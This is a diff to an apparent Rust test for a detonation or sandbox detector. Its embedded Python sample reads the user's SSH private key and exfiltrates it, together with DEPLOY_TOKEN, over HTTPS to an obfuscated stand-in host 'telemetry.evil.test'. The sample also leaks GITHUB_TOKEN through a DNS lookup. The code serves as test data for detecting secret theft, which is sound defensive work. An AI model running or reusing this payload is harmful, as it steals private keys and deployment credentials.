@@ -105,7 +105,7 @@ fn a_detonation_catches_secrets_sent_over_tls_and_dns_a_remote_shell_and_persist
         "import base64, json, os, pathlib, socket, urllib.request\n\
          host = 'tele' + 'metry' + '.evil' + '.test'\n\
          key = pathlib.Path.home().joinpath('.ssh', 'id_ed25519').read_bytes()\n\
-         body = json.dumps({'k': base64.b64encode(key).decode()}).encode()\n\
+         body = json.dumps({'k': base64.b64encode(key).decode(), 'd': os.environ.get('DEPLOY_TOKEN')}).encode()\n\
          urllib.request.urlopen(urllib.request.Request('https://' + host + '/v1', data=body), timeout=5)\n\
          try:\n    socket.getaddrinfo(os.environ['GITHUB_TOKEN'] + '.d.evil.test', 80)\n\
          except OSError:\n    pass\n\
